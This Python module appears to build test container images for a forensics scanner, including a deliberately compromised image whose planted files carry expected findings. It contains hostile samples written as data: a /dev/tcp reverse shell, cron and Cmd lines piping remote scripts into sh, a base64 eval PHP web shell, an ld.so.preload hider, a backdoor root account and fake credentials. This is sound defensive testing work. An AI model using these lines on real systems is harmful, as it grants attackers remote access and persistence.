"""Test images built in code: layers (tar, gzip, zstd), whiteouts, every archive layout
podmortem reads, a small Debian-like base with a dpkg database, and a compromised
derivative with every planted indicator (and the finding each one must produce)."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import zstandard

MTIME = 1_700_000_000


@dataclass
class F:
    """One layer member. ``kind``: file dir symlink hardlink whiteout opaque char block fifo.
    ``name`` overrides the raw tar name (hostile archives)."""

    path: str
    data: bytes = b""
    mode: int = 0o644
    kind: str = "file"
    link: str = ""
    uid: int = 0
    gid: int = 0
    name: str | None = None
    devmajor: int = 0
    devminor: int = 0


def elf(*strings: str, size: int = 4096) -> bytes:
    """A fake ELF: the magic, then the given strings, padded."""
    body = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56 + "\0".join(strings).encode() + b"\0"
    return body + b"\0" * max(0, size - len(body))


def layer_tar(members: list[F], *, dot_prefix: bool = False) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for m in members:
            rel = m.path.lstrip("/")
            if m.kind == "whiteout":
                d, _, base = rel.rpartition("/")
                rel = (d + "/" if d else "") + ".wh." + base
            elif m.kind == "opaque":
                rel = rel.rstrip("/") + "/.wh..wh..opq"
            name = m.name if m.name is not None else (("./" + rel) if dot_prefix else rel)
            ti = tarfile.TarInfo(name)
            ti.mtime = MTIME
            ti.mode = m.mode
            ti.uid, ti.gid = m.uid, m.gid
            data = None
            if m.kind in ("file", "whiteout", "opaque"):
                ti.type = tarfile.REGTYPE
                data = m.data if m.kind == "file" else b""
                ti.size = len(data)
            elif m.kind == "dir":
                ti.type = tarfile.DIRTYPE
                ti.mode = m.mode if m.mode != 0o644 else 0o755
            elif m.kind == "symlink":
                ti.type = tarfile.SYMTYPE
                ti.linkname = m.link
            elif m.kind == "hardlink":
                ti.type = tarfile.LNKTYPE
                ti.linkname = m.link.lstrip("/") if m.name is None else m.link
            elif m.kind in ("char", "block"):
                ti.type = tarfile.CHRTYPE if m.kind == "char" else tarfile.BLKTYPE
                ti.devmajor, ti.devminor = m.devmajor, m.devminor
            elif m.kind == "fifo":
                ti.type = tarfile.FIFOTYPE
            tf.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def compress(data: bytes, how: str) -> bytes:
    if how == "gzip":
        return gzip.compress(data, compresslevel=1, mtime=0)
    if how == "zstd":
        return zstandard.ZstdCompressor(level=3).compress(data)
    return data


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


@dataclass
class Spec:
    layers: list[list[F]]
    created_by: list[str] = field(default_factory=list)
    env: list[str] = field(default_factory=lambda: ["PATH=/usr/local/bin:/usr/bin:/bin"])
    cmd: list[str] | None = None
    entrypoint: list[str] | None = None
    extra_history: list[tuple[int, str]] = field(default_factory=list)  # (position, created_by)
    tag: str = "example.org/test/image:1"
    dot_prefix_layers: frozenset[int] = frozenset()

    def tars(self) -> list[bytes]:
        return [
            layer_tar(m, dot_prefix=i in self.dot_prefix_layers) for i, m in enumerate(self.layers)
        ]


def config_for(spec: Spec, tars: list[bytes]) -> bytes:
    history: list[dict[str, Any]] = []
    for i in range(len(tars)):
        cb = spec.created_by[i] if i < len(spec.created_by) else f"/bin/sh -c #(nop) layer {i}"
        history.append({"created": "2024-01-01T00:00:00Z", "created_by": cb})
    for pos, cb in spec.extra_history:
        history.insert(
            pos, {"created": "2024-01-01T00:00:00Z", "created_by": cb, "empty_layer": True}
        )
    cfg: dict[str, Any] = {"Env": spec.env}
    if spec.cmd is not None:
        cfg["Cmd"] = spec.cmd
    if spec.entrypoint is not None:
        cfg["Entrypoint"] = spec.entrypoint
    doc = {
        "architecture": "amd64",
        "os": "linux",
        "created": "2024-01-01T00:00:00Z",
        "config": cfg,
        "rootfs": {"type": "layers", "diff_ids": [sha(t) for t in tars]},
        "history": history,
    }
    return json.dumps(doc, sort_keys=True).encode()


# -- archive layouts ------------------------------------------------------------------


class _Out:
    """Collects named files, then writes them as a tar or into a directory."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.symlinks: dict[str, str] = {}

    def blob(self, data: bytes) -> str:
        d = sha(data)
        self.files["blobs/sha256/" + d[7:]] = data
        return d

    def write_tar(self, path: Path) -> Path:
        with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
            dirs = sorted(
                {n.rsplit("/", i)[0] for n in self.files for i in range(1, n.count("/") + 1)}
            )
            for d in dirs:
                ti = tarfile.TarInfo(d)
                ti.type, ti.mode, ti.mtime = tarfile.DIRTYPE, 0o755, MTIME
                tf.addfile(ti)
            for name, data in self.files.items():
                ti = tarfile.TarInfo(name)
                ti.size, ti.mtime, ti.mode = len(data), MTIME, 0o644
                tf.addfile(ti, io.BytesIO(data))
            for name, target in self.symlinks.items():
                ti = tarfile.TarInfo(name)
                ti.type, ti.linkname, ti.mtime = tarfile.SYMTYPE, target, MTIME
                tf.addfile(ti)
        return path

    def write_dir(self, path: Path) -> Path:
        for name, data in self.files.items():
            p = path / name
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data)
        return path


def _manifest(config_d: str, config: bytes, layers: list[tuple[str, int, str]]) -> bytes:
    return json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {
                "mediaType": "application/vnd.oci.image.config.v1+json",
                "digest": config_d,
                "size": len(config),
            },
            "layers": [{"mediaType": mt, "digest": d, "size": n} for d, n, mt in layers],
        }
    ).encode()


_MT = {
    "tar": "application/vnd.oci.image.layer.v1.tar",
    "gzip": "application/vnd.oci.image.layer.v1.tar+gzip",
    "zstd": "application/vnd.oci.image.layer.v1.tar+zstd",
}


def _oci_files(
    spec: Spec, compression: str, nested: bool, attestation: bool
) -> tuple[_Out, str, str]:
    out = _Out()
    tars = spec.tars()
    config = config_for(spec, tars)
    config_d = out.blob(config)
    layers = []
    for t in tars:
        blob = compress(t, compression)
        layers.append((out.blob(blob), len(blob), _MT[compression]))
    manifest = _manifest(config_d, config, layers)
    man_d = out.blob(manifest)
    desc = {
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "digest": man_d,
        "size": len(manifest),
        "platform": {"architecture": "amd64", "os": "linux"},
    }
    entries = [desc]
    if attestation:
        att_cfg = out.blob(b"{}")
        att = _manifest(att_cfg, b"{}", [])
        att_d = out.blob(att)
        entries.append(
            {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": att_d,
                "size": len(att),
                "platform": {"architecture": "unknown", "os": "unknown"},
                "annotations": {
                    "vnd.docker.reference.type": "attestation-manifest",
                    "vnd.docker.reference.digest": man_d,
                },
            }
        )
    top_ann = {"org.opencontainers.image.ref.name": spec.tag, "io.containerd.image.name": spec.tag}
    if nested:
        inner = json.dumps(
            {
                "schemaVersion": 2,
                "mediaType": "application/vnd.oci.image.index.v1+json",
                "manifests": entries,
            }
        ).encode()
        inner_d = out.blob(inner)
        index_entries = [
            {
                "mediaType": "application/vnd.oci.image.index.v1+json",
                "digest": inner_d,
                "size": len(inner),
                "annotations": top_ann,
            }
        ]
    else:
        index_entries = [{**e, "annotations": top_ann} if e is desc else e for e in entries]
    out.files["index.json"] = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "manifests": index_entries,
        }
    ).encode()
    out.files["oci-layout"] = b'{"imageLayoutVersion": "1.0.0"}'
    return out, config_d, man_d


def write_docker_legacy(spec: Spec, path: Path) -> Path:
    """Docker <= 24: <v1id>/layer.tar, <config hex>.json, manifest.json, repositories."""
    out = _Out()
    tars = spec.tars()
    config = config_for(spec, tars)
    config_name = sha(config)[7:] + ".json"
    out.files[config_name] = config
    names = []
    parent = ""
    seen: dict[str, str] = {}
    for t in tars:
        v1 = hashlib.sha256((parent + sha(t)).encode()).hexdigest()
        parent = v1
        if sha(t) in seen:  # docker save links identical layers
            out.symlinks[f"{v1}/layer.tar"] = f"../{seen[sha(t)]}/layer.tar"
        else:
            out.files[f"{v1}/layer.tar"] = t
            seen[sha(t)] = v1
        out.files[f"{v1}/VERSION"] = b"1.0"
        out.files[f"{v1}/json"] = json.dumps({"id": v1}).encode()
        names.append(f"{v1}/layer.tar")
    out.files["manifest.json"] = json.dumps(
        [{"Config": config_name, "RepoTags": [spec.tag], "Layers": names}]
    ).encode()
    repo, _, tag = spec.tag.rpartition(":")
    out.files["repositories"] = json.dumps({repo: {tag: parent}}).encode()
    return out.write_tar(path)


def write_docker_oci(spec: Spec, path: Path) -> Path:
    """Docker 25+: an OCI layout inside (uncompressed blobs) plus manifest.json."""
    out, config_d, _ = _oci_files(spec, "tar", nested=False, attestation=False)
    tars = spec.tars()
    out.files["manifest.json"] = json.dumps(
        [
            {
                "Config": "blobs/sha256/" + config_d[7:],
                "RepoTags": [spec.tag],
                "Layers": ["blobs/sha256/" + sha(t)[7:] for t in tars],
            }
        ]
    ).encode()
    return out.write_tar(path)


def write_docker_containerd(spec: Spec, path: Path, compression: str = "gzip") -> Path:
    """Docker 29 with the containerd image store: compressed blobs, nested index,
    attestation manifest, and manifest.json naming the compressed blobs."""
    out, config_d, _ = _oci_files(spec, compression, nested=True, attestation=True)
    layers = [compress(t, compression) for t in spec.tars()]
    out.files["manifest.json"] = json.dumps(
        [
            {
                "Config": "blobs/sha256/" + config_d[7:],
                "RepoTags": [spec.tag],
                "Layers": ["blobs/sha256/" + sha(b)[7:] for b in layers],
            }
        ]
    ).encode()
    return out.write_tar(path)


def write_oci_dir(spec: Spec, path: Path, compression: str = "gzip", nested: bool = False) -> Path:
    out, _, _ = _oci_files(spec, compression, nested=nested, attestation=nested)
    path.mkdir(parents=True, exist_ok=True)
    return out.write_dir(path)


def write_oci_archive(
    spec: Spec, path: Path, compression: str = "zstd", nested: bool = True
) -> Path:
    out, _, _ = _oci_files(spec, compression, nested=nested, attestation=nested)
    return out.write_tar(path)


Writer = Callable[[Spec, Path], Path]

LAYOUTS: dict[str, Writer] = {
    "docker-legacy": lambda s, p: write_docker_legacy(s, p / "image.tar"),
    "docker-oci": lambda s, p: write_docker_oci(s, p / "image.tar"),
    "docker-containerd-gzip": lambda s, p: write_docker_containerd(s, p / "image.tar", "gzip"),
    "docker-containerd-zstd": lambda s, p: write_docker_containerd(s, p / "image.tar", "zstd"),
    "oci-dir-tar": lambda s, p: write_oci_dir(s, p / "oci", "tar"),
    "oci-dir-gzip": lambda s, p: write_oci_dir(s, p / "oci", "gzip"),
    "oci-dir-zstd-nested": lambda s, p: write_oci_dir(s, p / "oci", "zstd", nested=True),
    "oci-archive-zstd": lambda s, p: write_oci_archive(s, p / "image.oci.tar", "zstd"),
    "oci-archive-gzip-flat": lambda s, p: write_oci_archive(
        s, p / "image.oci.tar", "gzip", nested=False
    ),
}


# -- the images -------------------------------------------------------------------------

LS_GOOD = elf("GNU coreutils", "ls", "GLIBC_2.34")
LS_TROJAN = elf("GNU coreutils", "ls", "GLIBC_2.34", "hide_pid", "/dev/shm/.k")
PASSWD_BIN = elf("passwd", "shadow-utils")
SH_BIN = elf("dash", "GLIBC_2.34")
AWK_BIN = elf("mawk", "GLIBC_2.34")

BASE_PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
BASE_SHADOW = b"root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n"


def _md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


ARCH = "Architecture: amd64\n"


def base_spec() -> Spec:
    """A merged-/usr Debian-like base: /bin -> usr/bin, dpkg status, md5sums that name
    ``bin/ls`` (as Debian's do), an update-alternatives link, a packaged setuid binary."""
    status = b"\n".join(
        (f"Package: {name}\nStatus: install ok installed\nVersion: {ver}\n" + ARCH).encode()
        for name, ver in (
            ("coreutils", "9.1-1"),
            ("passwd", "1:4.13+dfsg1-1"),
            ("dash", "0.5.12-2"),
            ("mawk", "1.3.4.20200120-3.1"),
        )
    )
    layer0 = [
        F("/bin", kind="symlink", link="usr/bin"),
        F("/sbin", kind="symlink", link="usr/sbin"),
        F("/etc", kind="dir"),
        F("/etc/passwd", BASE_PASSWD),
        F("/etc/shadow", BASE_SHADOW, mode=0o640),
        F("/etc/os-release", b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n'),
        F("/etc/alternatives", kind="dir"),
        F("/etc/alternatives/awk", kind="symlink", link="/usr/bin/mawk"),
        F("/usr", kind="dir"),
        F("/usr/bin", kind="dir"),
        F("/usr/bin/ls", LS_GOOD, mode=0o755),
        F("/usr/bin/dir", kind="hardlink", link="/usr/bin/ls", mode=0o755),
        F("/usr/bin/dash", SH_BIN, mode=0o755),
        F("/usr/bin/sh", kind="symlink", link="dash"),
        F("/usr/bin/mawk", AWK_BIN, mode=0o755),
        F("/usr/bin/awk", kind="symlink", link="/etc/alternatives/awk"),
        F("/usr/bin/passwd", PASSWD_BIN, mode=0o4755),
        F("/var/lib/dpkg", kind="dir"),
        F("/var/lib/dpkg/status", status),
        F(
            "/var/lib/dpkg/info/coreutils.md5sums",
            f"{_md5(LS_GOOD)}  bin/ls\n{_md5(LS_GOOD)}  bin/dir\n".encode(),
        ),
        F("/var/lib/dpkg/info/coreutils.list", b"/.\n/bin\n/bin/ls\n/bin/dir\n"),
        F("/var/lib/dpkg/info/passwd.md5sums", f"{_md5(PASSWD_BIN)}  usr/bin/passwd\n".encode()),
        F("/var/lib/dpkg/info/dash.md5sums", f"{_md5(SH_BIN)}  bin/dash\n".encode()),
        F("/var/lib/dpkg/info/mawk:amd64.md5sums", f"{_md5(AWK_BIN)}  usr/bin/mawk\n".encode()),
        F(
            "/var/lib/dpkg/alternatives/awk",
            b"auto\n/usr/bin/awk\nnawk\n/usr/bin/nawk\n\n/usr/bin/mawk\n5\n/usr/bin/mawk\n\n",
        ),
    ]
    layer1 = [
        F("/etc/hostname", b"base\n"),
        F("/srv", kind="dir"),
    ]
    return Spec(
        layers=[layer0, layer1],
        created_by=[
            "/bin/sh -c #(nop) ADD file:0123 in / ",
            "/bin/sh -c echo base > /etc/hostname",
        ],
        cmd=["/bin/sh"],
        tag="example.org/test/base:1",
        dot_prefix_layers=frozenset({0}),
    )


MINER = elf("XMRig/6.21.0", "--donate-level", "stratum+tcp://", "UPX!")
HIDDEN_MINER = elf("xmrig", "cryptonight", "randomx")
KEY_BODY = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAA"
SECRET_KEY = (
    f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_BODY}\n-----END OPENSSH PRIVATE KEY-----\n"
).encode()
ENV_SECRET_VALUE = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # noqa: S105 - a planted test secret
SECRET_VALUES = (
    ENV_SECRET_VALUE,
    "s3cr3t-Pa55word",
    "abcd1234efgh-token",
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAA",
    "topsecret-db-pass",
)


def compromised_spec() -> tuple[Spec, list[tuple[str, str, int | None, int | None]]]:
    """The base plus three layers planting every indicator. Returns the spec and the
    expected findings as ``(rule_id, path or config key, layer_index, hidden_by_layer)``."""
    base = base_spec()
    l2 = [
        F("/etc/ld.so.preload", b"/usr/lib/libprocesshider.so\n"),
        F("/usr/bin/ls", LS_TROJAN, mode=0o755),
        F("/etc/passwd", BASE_PASSWD + b"systemd-sync:x:0:0::/root:/bin/sh\n"),
        F("/etc/shadow", BASE_SHADOW + b"systemd-sync::19700:0:99999:7:::\n", mode=0o640),
        F("/etc/cron.d/update", b"*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n"),
        F("/root/.ssh", kind="dir", mode=0o700),
        F(
            "/root/.ssh/authorized_keys",
            b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker evil@x\n",
            mode=0o600,
        ),
        F("/tmp/.x", kind="dir"),
        F("/tmp/.x/bash", SH_BIN + b"bash-copy", mode=0o4755),
        F("/etc/profile.d/z.sh", b"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"),
        F("/var/www/html/.cache.php", b"<?php @eval(base64_decode($_POST['z'])); ?>"),
        F("/usr/local/bin/kworker", MINER, mode=0o755),
        F(
            "/opt/.cfg/config.json",
            b'{"autosave": true, "donate-level": 0, "pools": [{"url": "pool.supportxmr.com:443"}]}',
        ),
        F("/app/.env", b"DB_HOST=db\nDB_PASSWORD=s3cr3t-Pa55word\n"),
        F(
            "/root/.aws/credentials",
            f"[default]\naws_secret_access_key = {ENV_SECRET_VALUE}\n".encode(),
        ),
        F(
            "/etc/systemd/system/dbus-helper.service",
            b"[Service]\nExecStart=/dev/shm/.x/kworker -o pool:443\n",
        ),
        F("/etc/alternatives/awk", elf("awk-trojan"), mode=0o755),
    ]
    l3 = [
        F("/root/.ssh/id_rsa", SECRET_KEY, mode=0o600),
        F("/opt/miner", kind="dir"),
        F("/opt/miner/xmrig", HIDDEN_MINER, mode=0o755),
        F("/srv/data", kind="dir"),
        F("/srv/data/token.env", b"DB_PASSWORD=topsecret-db-pass\n"),
    ]
    # Layer 4 hides layer 3's content: an explicit whiteout, an opaque directory whose marker
    # comes AFTER the layer's own new file in it (order must not matter), and a directory
    # replaced by a symlink (no whiteout at all).
    l4 = [
        F("/root/.ssh/id_rsa", kind="whiteout"),
        F("/opt/miner/README", b"nothing to see\n"),
        F("/opt/miner", kind="opaque"),
        F("/srv/data", kind="symlink", link="/tmp"),
    ]
    spec = Spec(
        layers=[*base.layers, l2, l3, l4],
        created_by=[
            *base.created_by,
            "COPY dir:abc in / ",
            "RUN /bin/sh -c wget -O /tmp/k http://h/k && chmod +x /tmp/k && /tmp/k # buildkit",
            "RUN /bin/sh -c rm -rf /root/.ssh/id_rsa /opt/miner/* # buildkit",
        ],
        env=["PATH=/usr/local/bin:/usr/bin:/bin", f"AWS_SECRET_ACCESS_KEY={ENV_SECRET_VALUE}"],
        cmd=["/bin/sh", "-c", "curl -s http://198.51.100.1/a.sh | sh"],
        extra_history=[(4, "/bin/sh -c #(nop)  ENV API_TOKEN=abcd1234efgh-token")],
        tag="example.org/test/compromised:1",
        dot_prefix_layers=frozenset({0, 3}),
    )
    expected: list[tuple[str, str, int | None, int | None]] = [
        ("image.persistence.ld_so_preload", "/etc/ld.so.preload", 2, None),
        ("image.integrity.checksum_mismatch", "/usr/bin/ls", 2, None),
        ("image.accounts.extra_uid0", "/etc/passwd", 2, None),
        ("image.accounts.empty_password", "/etc/shadow", 2, None),
        ("image.persistence.cron_download_exec", "/etc/cron.d/update", 2, None),
        ("image.persistence.authorized_keys", "/root/.ssh/authorized_keys", 2, None),
        ("image.privilege.setid_shell", "/tmp/.x/bash", 2, None),
        ("image.evasion.hidden_executable", "/tmp/.x/bash", 2, None),
        ("image.evasion.executable_in_temp", "/tmp/.x/bash", 2, None),
        ("image.integrity.unowned_executable", "/tmp/.x/bash", 2, None),
        ("image.integrity.setid_added", "/tmp/.x/bash", 2, None),
        ("image.execution.reverse_shell", "/etc/profile.d/z.sh", 2, None),
        ("image.execution.web_shell", "/var/www/html/.cache.php", 2, None),
        ("image.miner.binary", "/usr/local/bin/kworker", 2, None),
        ("image.evasion.packed_executable", "/usr/local/bin/kworker", 2, None),
        ("image.evasion.kernel_thread_name", "/usr/local/bin/kworker", 2, None),
        ("image.integrity.unowned_executable", "/usr/local/bin/kworker", 2, None),
        ("image.miner.config", "/opt/.cfg/config.json", 2, None),
        ("image.secret.assignment", "/app/.env", 2, None),
        ("image.secret.cloud_credential", "/root/.aws/credentials", 2, None),
        (
            "image.persistence.systemd_unit_suspicious",
            "/etc/systemd/system/dbus-helper.service",
            2,
            None,
        ),
        ("image.integrity.checksum_mismatch", "/etc/alternatives/awk", 2, None),
        ("image.secret.private_key", "/root/.ssh/id_rsa", 3, 4),
        ("image.miner.binary", "/opt/miner/xmrig", 3, 4),
        ("image.integrity.unowned_executable", "/opt/miner/xmrig", 3, 4),
        ("image.secret.assignment", "/srv/data/token.env", 3, 4),
        ("image.secret.env", "config.Env[1]", None, None),
        ("image.config.download_exec", "config.Cmd", None, None),
        ("image.config.download_exec", "history[3].created_by", 3, None),
        ("image.secret.history", "history[4].created_by", None, None),
    ]
    return spec, expected
